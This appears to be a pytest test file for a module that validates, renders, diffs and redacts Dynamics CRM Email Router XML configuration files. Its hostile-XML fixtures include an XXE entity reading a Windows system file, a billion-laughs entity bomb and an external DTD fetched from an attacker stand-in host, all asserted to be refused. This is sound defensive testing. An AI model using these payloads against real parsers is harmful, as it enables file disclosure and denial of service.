"""The EmailAgent XML model: safe parsing of hostile input, validation with file/element/line, rendering, diff and redaction."""

from __future__ import annotations

import base64
import os

import pytest
from cryptography.hazmat.primitives import padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from ansible_collections.exchange_dr.recovery.plugins.plugin_utils import _email_agent as m

KEY = bytes(range(32))
OTHER_KEY = bytes(range(1, 33))
SECRET = "Mailbox-Passw0rd!"


def encrypt(plain: str, key: bytes = KEY) -> str:
    iv = os.urandom(16)
    padder = padding.PKCS7(128).padder()
    data = padder.update(plain.encode("utf-8")) + padder.finalize()
    enc = Cipher(algorithms.AES(key), modes.CBC(iv)).encryptor()
    ct = enc.update(data) + enc.finalize()
    return m.ENCRYPTED_PREFIX + base64.b64encode(ct).decode() + "@" + base64.b64encode(iv).decode()


def key_file(key: bytes = KEY) -> bytes:
    return f'<Encryption Key="{base64.b64encode(key).decode()}"/>'.encode()


def provider(**fields: str) -> str:
    base = {
        "ProviderClass": "Microsoft.Crm.Tools.Email.Providers.ExchangePollingMailboxProvider",
        "CrmServerUrl": "https://crm.contoso.local/Contoso",
        "Direction": "Inbound",
        "Protocol": "EWS",
        "EmailServer": "https://mail.contoso.local/EWS/Exchange.asmx",
        "EmailAuthMode": "WindowsAuthentication",
        "AccessCredentials": "Other",
        "EmailUser": "CONTOSO\\svc-crm",
        "EmailPassword": SECRET,
        "EmailAddress": "alice@contoso.local",
        "UserId": "11111111-2222-3333-4444-555555555555",
    }
    base.update(fields)
    inner = "".join(f"\n    <{k}>{v}</{k}>" for k, v in base.items() if v is not None)
    return f"\n  <ProviderConfiguration>{inner}\n  </ProviderConfiguration>"


def config(*providers: str, system: str = "<MaxThreads>50</MaxThreads><SchedulingPeriod>1000</SchedulingPeriod><LogLevel>1</LogLevel>") -> bytes:
    head = '<?xml version="1.0" encoding="utf-8"?>\n<Configuration>\n'
    return f"{head}  <SystemConfiguration>{system}</SystemConfiguration>{''.join(providers)}\n</Configuration>\n".encode()


GOOD = config(provider())
STATE = b"<State><mailbox><emailaddress>alice@contoso.local</emailaddress><thresholddate>2024-05-01</thresholddate></mailbox></State>"


def errors(report: m.SetReport) -> list[str]:
    return [str(i) for i in report.errors]


def only_error(report: m.SetReport) -> m.Issue:
    assert len(report.errors) == 1, errors(report)
    return report.errors[0]


# -- a good set -----------------------------------------------------------------------------------------------------------
def test_good_set_has_no_issues():
    report = m.validate_set({m.CONFIG_FILE: GOOD, m.STATE_FILE: STATE}, organization="Contoso")
    assert report.issues == []
    assert report.config.providers[0].get("EmailAddress") == "alice@contoso.local"
    assert report.config.system["MaxThreads"] == "50"


def test_file_names_match_case_insensitively_and_other_files_are_ignored():
    report = m.validate_set({"microsoft.crm.tools.emailagent.XML": GOOD, m.STATE_FILE: STATE, "readme.txt": b"x"})
    assert report.errors == []
    assert set(report.files) == {m.CONFIG_FILE, m.STATE_FILE}


def test_missing_system_state_is_a_warning_about_reprocessing():
    report = m.validate_set({m.CONFIG_FILE: GOOD})
    assert report.errors == []
    assert [w.file for w in report.warnings] == [m.STATE_FILE]
    assert "processed again" in report.warnings[0].message


def test_missing_config_file_is_an_error():
    assert "has no Microsoft.Crm.Tools.EmailAgent.xml" in only_error(m.validate_set({m.STATE_FILE: STATE})).message


# -- hostile XML ----------------------------------------------------------------------------------------------------------
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Configuration [
  <!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">
]>
<Configuration><SystemConfiguration><LogFile>&xxe;</LogFile></SystemConfiguration></Configuration>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<Configuration>&lol9;</Configuration>"""

EXTERNAL_DTD = b'<?xml version="1.0"?>\n<!DOCTYPE Configuration SYSTEM "http://attacker.example/evil.dtd">\n<Configuration/>'


@pytest.mark.parametrize(("data", "line"), [(XXE, 2), (BILLION_LAUGHS, 2), (EXTERNAL_DTD, 2)])
def test_dtds_entities_and_external_references_are_refused_with_their_line(data, line):
    issue = only_error(m.validate_set({m.CONFIG_FILE: data}))
    assert issue.file == m.CONFIG_FILE
    assert issue.line == line
    assert "not allowed" in issue.message


def test_entity_reference_without_declaration_is_not_well_formed():
    issue = only_error(m.validate_set({m.CONFIG_FILE: b"<Configuration>\n<SystemConfiguration>&xxe;</SystemConfiguration></Configuration>"}))
    assert issue.line == 2 and "not well-formed" in issue.message


def test_wrong_root_element():
    issue = only_error(m.validate_set({m.CONFIG_FILE: b'<?xml version="1.0"?>\n\n<EmailRouter/>'}))
    assert (issue.line, issue.element) == (3, "EmailRouter")
    assert "must be <Configuration>" in issue.message


def test_wrong_casing_of_root_and_provider_elements():
    issue = only_error(m.validate_set({m.CONFIG_FILE: b"<configuration><SystemConfiguration/></configuration>"}))
    assert "case-sensitive" in issue.message
    data = config("\n  <providerConfiguration><Direction>Inbound</Direction></providerConfiguration>")
    issue = only_error(m.validate_set({m.CONFIG_FILE: data}))
    assert issue.element == "Configuration/providerConfiguration" and issue.line == 4
    assert "did you mean <ProviderConfiguration>?" in issue.message


def test_casing_of_provider_children_is_a_warning_only():
    data = config(provider(EmailServer=None, emailserver="mail.contoso.local"))
    report = m.validate_set({m.CONFIG_FILE: data, m.STATE_FILE: STATE})
    assert report.errors == []
    assert any("Microsoft's parser reads <EmailServer>" in w.message for w in report.warnings)


@pytest.mark.parametrize(
    "data",
    [
        GOOD.replace(b'encoding="utf-8"', b'encoding="utf-16"').decode().encode("utf-16"),  # UTF-16 with BOM
        b"\xef\xbb\xbf" + GOOD,  # UTF-8 with BOM
        GOOD.replace(b"alice", "al\u00efce".encode()).replace(b'encoding="utf-8"', b'encoding="windows-1252"').decode().encode("cp1252"),
        GOOD.replace(b"alice", "al\u00efce".encode()).replace(b'encoding="utf-8"', b'encoding="iso-8859-1"').decode().encode("latin-1"),
    ],
    ids=["utf16-bom", "utf8-bom", "windows-1252", "latin-1"],
)
def test_declared_encodings_and_boms_are_read(data):
    report = m.validate_set({m.CONFIG_FILE: data, m.STATE_FILE: STATE})
    assert report.errors == [], errors(report)
    assert report.config.providers[0].get("EmailAddress") in ("alice@contoso.local", "al\u00efce@contoso.local")


def test_bytes_that_do_not_match_the_declared_encoding_are_an_error_with_a_line():
    data = b'<?xml version="1.0" encoding="utf-8"?>\n<Configuration>\n<SystemConfiguration><LogFile>caf\xe9</LogFile></SystemConfiguration></Configuration>'
    issue = only_error(m.validate_set({m.CONFIG_FILE: data}))
    assert issue.line == 3 and "not well-formed" in issue.message


def test_unsupported_multibyte_encoding_is_refused():
    data = b'<?xml version="1.0" encoding="shift_jis"?><Configuration/>'
    issue = only_error(m.validate_set({m.CONFIG_FILE: data}))
    assert "cannot be read" in issue.message


@pytest.mark.parametrize("data", [b"", b"   \r\n", b"\xef\xbb\xbf", "\ufeff".encode("utf-16-le")], ids=["empty", "blank", "bom-only", "utf16-bom-only"])
def test_empty_files(data):
    issue = only_error(m.validate_set({m.CONFIG_FILE: data}))
    assert "empty" in issue.message


def test_empty_system_state_is_the_root_element_missing_error():
    issue = only_error(m.validate_set({m.CONFIG_FILE: GOOD, m.STATE_FILE: b""}))
    assert issue.file == m.STATE_FILE and "Root element is missing" in issue.message


def test_huge_file_is_refused_before_parsing():
    data = b"<Configuration>" + b" " * 2048 + b"</Configuration>"
    issue = only_error(m.validate_set({m.CONFIG_FILE: data}, max_bytes=1024))
    assert "more than the limit of 1024 bytes" in issue.message


def test_huge_bin_file_is_refused():
    report = m.validate_set({m.CONFIG_FILE: GOOD, m.STATE_FILE: STATE, m.BIN_FILE: b"\0" * 2048}, max_bytes=1024)
    assert only_error(report).file == m.BIN_FILE


def test_truncated_file_names_the_line():
    issue = only_error(m.validate_set({m.CONFIG_FILE: GOOD[:-40]}))
    assert issue.file == m.CONFIG_FILE and issue.line is not None and "not well-formed" in issue.message


# -- required elements and types ------------------------------------------------------------------------------------------
def test_system_configuration_numbers():
    data = config(system="<MaxThreads>fifty</MaxThreads>\n<ProviderOverrides><BatchSize>-1</BatchSize></ProviderOverrides>")
    report = m.validate_set({m.CONFIG_FILE: data, m.STATE_FILE: STATE})
    assert [(i.element, i.line) for i in report.errors] == [
        ("Configuration/SystemConfiguration/MaxThreads", 3),
        ("Configuration/SystemConfiguration/ProviderOverrides/BatchSize", 4),
    ]


def test_missing_system_configuration():
    data = b"<Configuration>" + provider().encode() + b"</Configuration>"
    assert "<SystemConfiguration> is missing" in only_error(m.validate_set({m.CONFIG_FILE: data})).message


@pytest.mark.parametrize(
    ("fields", "element", "text"),
    [
        ({"ProviderClass": None}, "Configuration/ProviderConfiguration[1]", "<ProviderClass> is missing"),
        ({"Direction": ""}, "Configuration/ProviderConfiguration[1]/Direction", "<Direction> is missing"),
        ({"EmailServer": None}, "Configuration/ProviderConfiguration[1]", "<EmailServer> is missing"),
        ({"EmailUseSSL": "yes"}, "Configuration/ProviderConfiguration[1]/EmailUseSSL", ".NET Boolean"),
        ({"EmailPort": "70000"}, "Configuration/ProviderConfiguration[1]/EmailPort", "port number"),
        ({"UserId": "alice"}, "Configuration/ProviderConfiguration[1]/UserId", "GUID"),
        ({"CrmServerUrl": "crm/Contoso"}, "Configuration/ProviderConfiguration[1]/CrmServerUrl", "absolute http(s) URL"),
        ({"Direction": "Outbound"}, "Configuration/ProviderConfiguration[1]/Direction", "serves inbound mail"),
        ({"EmailPassword": m.ENCRYPTED_PREFIX + "not base64"}, "Configuration/ProviderConfiguration[1]/EmailPassword", "malformed"),
    ],
)
def test_provider_rules(fields, element, text):
    report = m.validate_set({m.CONFIG_FILE: config(provider(**fields)), m.STATE_FILE: STATE, m.KEY_FILE: key_file()})
    issue = only_error(report)
    assert issue.element == element and text in issue.message
    assert issue.line is not None


def test_autodiscover_makes_the_server_optional():
    report = m.validate_set({m.CONFIG_FILE: config(provider(EmailServer=None, UseAutoDiscover="true")), m.STATE_FILE: STATE})
    assert report.errors == []


def test_nested_provider_configuration():
    data = config(provider(Target="<ProviderConfiguration><Direction>Inbound</Direction></ProviderConfiguration>"))
    assert any("do not nest" in e.message for e in m.validate_set({m.CONFIG_FILE: data}).errors)


def test_duplicate_providers_name_both_lines():
    data = config(provider(), provider(EmailServer="other.contoso.local"))
    issue = only_error(m.validate_set({m.CONFIG_FILE: data, m.STATE_FILE: STATE}))
    assert issue.element == "Configuration/ProviderConfiguration[2]"
    assert issue.line == 17 and "already configured on line 4" in issue.message
    # the same mailbox in the other direction is not a duplicate
    out = provider(ProviderClass="SmtpPollingSendEmailProvider", Direction="Outbound", Protocol="SMTP")
    assert m.validate_set({m.CONFIG_FILE: config(provider(), out), m.STATE_FILE: STATE}).errors == []


def test_duplicate_element_inside_a_provider():
    data = config(provider(EmailServer="a</EmailServer><EmailServer>b"))
    assert "appears twice" in only_error(m.validate_set({m.CONFIG_FILE: data, m.STATE_FILE: STATE})).message


def test_organization_is_the_last_segment_of_crm_server_url():
    report = m.validate_set({m.CONFIG_FILE: GOOD, m.STATE_FILE: STATE}, organization="Fabrikam")
    issue = only_error(report)
    assert issue.element.endswith("/CrmServerUrl") and issue.line == 6 and "'Fabrikam'" in issue.message
    assert m.validate_set({m.CONFIG_FILE: GOOD, m.STATE_FILE: STATE}, organization="contoso").errors == []


# -- encrypted passwords and the key --------------------------------------------------------------------------------------
def test_encrypted_password_without_key_file_is_an_error():
    data = config(provider(EmailPassword=encrypt(SECRET)))
    issue = only_error(m.validate_set({m.CONFIG_FILE: data, m.STATE_FILE: STATE}))
    assert "no EncryptionKey.xml" in issue.message and issue.line == 13


def test_encrypted_password_with_the_matching_key():
    data = config(provider(EmailPassword=encrypt(SECRET)))
    assert m.validate_set({m.CONFIG_FILE: data, m.STATE_FILE: STATE, m.KEY_FILE: key_file()}).issues == []


def test_encrypted_password_with_another_key():
    data = config(provider(EmailPassword=encrypt(SECRET)), provider(EmailAddress="bob@contoso.local", EmailPassword=encrypt("x"), UserId=None))
    report = m.validate_set({m.CONFIG_FILE: data, m.STATE_FILE: STATE, m.KEY_FILE: key_file(OTHER_KEY)})
    assert all("does not decrypt" in e.message for e in report.errors)
    assert [e.line for e in report.errors] == [13, 26]


@pytest.mark.parametrize(
    ("data", "text"), [(b"<Key/>", "must be <Encryption>"), (b"<Encryption/>", "missing or empty"), (b'<Encryption Key="%%%"/>', "not base64")]
)
def test_bad_key_files(data, text):
    issue = only_error(m.validate_set({m.CONFIG_FILE: GOOD, m.STATE_FILE: STATE, m.KEY_FILE: data}))
    assert issue.file == m.KEY_FILE and text in issue.message


# -- rendering ------------------------------------------------------------------------------------------------------------
DEFINITION = {
    "crm_server_url": "https://crm.contoso.local/Contoso",
    "system": {"max_threads": 20, "provider_overrides": {"batch_size": 5}},
    "profiles": [
        {"name": "Exchange", "direction": "incoming", "email_server": "https://mail.contoso.local/EWS/Exchange.asmx", "user": "svc", "password": SECRET},
        {"name": "Smtp", "direction": "outgoing", "email_server": "smtp.contoso.local", "port": 25, "use_ssl": False},
    ],
    "users": [{"email": "alice@contoso.local", "user_id": "11111111-2222-3333-4444-555555555555", "incoming_profile": "Exchange", "outgoing_profile": "Smtp"}],
    "queues": [{"email": "sales@contoso.local", "queue_id": "21111111-2222-3333-4444-555555555555", "outgoing_profile": "Smtp"}],
    "forward_mailboxes": [{"email": "fwd@contoso.local", "incoming_profile": "Exchange", "delete_emails": True}],
}


def test_rendered_definition_is_a_valid_set():
    data = m.render_definition(DEFINITION)
    report = m.validate_set({m.CONFIG_FILE: data}, organization="Contoso")
    assert report.errors == []
    providers = report.config.providers
    assert [(p.get("Direction"), p.get("EmailAddress")) for p in providers] == [
        ("Inbound", "alice@contoso.local"),
        ("Outbound", "alice@contoso.local"),
        ("Outbound", "sales@contoso.local"),
        ("Inbound", "fwd@contoso.local"),
    ]
    assert providers[3].get("IsForwardMailbox") == "True" and providers[3].get("DeleteEmails") == "True"
    assert providers[2].get("QueueId") == "21111111-2222-3333-4444-555555555555"
    assert providers[1].get("ProviderClass") == m.PROVIDER_NAMESPACE + "SmtpPollingSendEmailProvider"
    assert report.config.system["MaxThreads"] == "20" and report.config.system["SchedulingPeriod"] == "1000"
    assert report.config.overrides == {"BatchSize": "5"}
    assert m.render_definition(DEFINITION) == data  # deterministic


@pytest.mark.parametrize(
    ("change", "text"),
    [
        ({"users": [{"email": "a@b.c", "user_id": "x", "incoming_profile": "Nope"}]}, "users[0].incoming_profile: no profile named 'Nope'"),
        ({"users": [{"email": "a@b.c", "user_id": "x", "incoming_profile": "Smtp"}]}, "is an outgoing profile"),
        ({"queues": [{"email": "a@b.c", "queue_id": "x"}]}, "queues[0]: needs incoming_profile or outgoing_profile"),
        ({"profiles": [{"name": "A"}, {"name": "a"}]}, "profiles[1]: a profile named 'a' is already defined"),
    ],
)
def test_definition_errors(change, text):
    with pytest.raises(m.DefinitionError, match=None) as e:
        m.render_definition({**DEFINITION, **change})
    assert text in str(e.value)


def test_definition_secrets():
    assert m.definition_secrets(DEFINITION) == [SECRET]


# -- normalise, diff, redact ----------------------------------------------------------------------------------------------
def test_layout_encoding_and_comments_do_not_count_as_changes():
    pretty = GOOD.replace(b"<Configuration>", b"<Configuration>\n  <!-- restored -->\n")
    utf16 = GOOD.replace(b'encoding="utf-8"', b'encoding="utf-16"').decode().encode("utf-16")
    assert m.changed_files({m.CONFIG_FILE: GOOD}, {m.CONFIG_FILE: pretty}) == []
    assert m.changed_files({m.CONFIG_FILE: GOOD}, {m.CONFIG_FILE: utf16}) == []
    assert m.changed_files({m.CONFIG_FILE: GOOD, m.STATE_FILE: STATE}, {m.CONFIG_FILE: GOOD}) == [m.STATE_FILE]
    assert m.changed_files({m.CONFIG_FILE: GOOD}, {m.CONFIG_FILE: config(provider(EmailPassword="other"))}) == [m.CONFIG_FILE]


def test_diff_never_shows_passwords_or_keys():
    old = {m.CONFIG_FILE: config(provider(EmailPassword=encrypt(SECRET))), m.KEY_FILE: key_file()}
    new_secret = encrypt("Another-Secret-1")
    new = {m.CONFIG_FILE: config(provider(EmailPassword=new_secret, EmailServer="mail2.contoso.local")), m.KEY_FILE: key_file(OTHER_KEY)}
    entries = m.diff_sets(old, new, "C:\\Program Files\\Microsoft CRM Email\\Service")
    text = m.unified_diff(entries)
    for secret in (SECRET, "Another-Secret-1", new_secret, old[m.CONFIG_FILE].decode().split("<EmailPassword>")[1].split("<")[0]):
        assert secret not in text
    for key in (KEY, OTHER_KEY):
        assert base64.b64encode(key).decode() not in text
    assert "+    <EmailPassword>******** (changed)</EmailPassword>" in text
    assert '+<Encryption Key="******** (changed)"/>' in text
    assert "+    <EmailServer>mail2.contoso.local</EmailServer>" in text
    assert entries[0]["before_header"] == "C:\\Program Files\\Microsoft CRM Email\\Service\\Microsoft.Crm.Tools.EmailAgent.xml"


def test_unchanged_secret_is_redacted_without_changed_marker():
    old = {m.CONFIG_FILE: GOOD}
    new = {m.CONFIG_FILE: config(provider(EmailServer="mail2.contoso.local"))}
    entries = m.diff_sets(old, new)
    text = m.unified_diff(entries)
    assert SECRET not in text and "(changed)" not in text
    assert "<EmailPassword>********</EmailPassword>" in entries[0]["after"]
    assert SECRET not in entries[0]["before"] + entries[0]["after"]


def test_binary_file_is_summarised():
    entries = m.diff_sets({}, {m.BIN_FILE: b"\x00\x01secret"})
    assert entries[0]["after"] == "<binary file, 8 bytes>\n" and entries[0]["before_header"].endswith("(absent)")
